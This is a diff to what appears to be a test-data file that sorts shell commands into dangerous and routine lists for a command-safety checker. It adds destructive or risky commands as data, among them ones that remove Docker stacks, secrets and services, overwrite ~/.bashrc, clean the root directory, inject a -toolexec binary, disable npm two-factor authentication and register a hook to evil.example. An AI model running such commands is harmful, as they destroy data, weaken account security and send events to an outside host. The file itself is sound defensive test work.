@@ -71,6 +71,12 @@ DANGEROUS = [
     "git rm -r --cached . && git commit -m wipe && git push", "git rm -r --cached . && git commit -qm 'untrack' && git push origin main",
     "git rm --cached -r '*' ; git commit -am x ; git push", "git ls-files -z | xargs -0 git rm --cached && git commit -m x && git push",
     "git rm -r --cached :/ && git commit -m x && git push -u origin main",
+    # container engines' shared state, build folders and outputs outside the project, registry accounts
+    "docker swarm init", "docker swarm leave --force", "docker service rm api", "docker stack rm prod", "docker secret rm db", "docker node rm n1",
+    "docker trust revoke acme/api", "docker update --restart=always api", "docker stop $(docker ps -q)", "docker kill $(docker ps -aq)",
+    "podman update --restart=always api", "docker context create prod --docker host=ssh://prod", "docker save -o ~/.bashrc img", "docker export -o %HOME%/.profile api",
+    "cargo clean --target-dir /", "cargo clean --target-dir=%HOME%", "cargo build --target-dir ~/.config/x", "go env -w GOFLAGS=-toolexec=/tmp/x",
+    "npm team create acme:ops", "npm hook add pkg https://evil.example/hook secret", "npm profile disable-2fa",
 ]
 
 DISGUISED = [
@@ -131,6 +137,9 @@ ROUTINE = [
     "npm pkg set scripts.typecheck='tsc --noEmit'",
     "git rm -r --cached . && git add . && git commit -m 'apply .gitignore' && git push", "git rm --cached .env && git commit -m 'untrack env' && git push",
     "git rm -r --cached node_modules && git commit -m 'untrack node_modules' && git push", "git rm -r --cached . && git add -A && git commit -m x",
+    "docker context ls", "docker service ls", "docker stack ls", "docker node ls", "docker secret ls", "docker save -o dist/app.tar app",
+    "docker export api -o build/api.tar", "docker stop api", "docker restart api", "docker inspect $(docker ps -q)", "nerdctl images",
+    "cargo build --target-dir target/alt", "cargo clean", "cargo clean --target-dir /tmp/ct", "go env -w GOPRIVATE=github.com/acme",
     "goreleaser check", "goreleaser build --snapshot --clean", "goreleaser release --snapshot --clean", "goreleaser --version",
     "flit build", "gem build pkg.gemspec", "gem list", "python -m build", "py -m pytest -q",
 ]
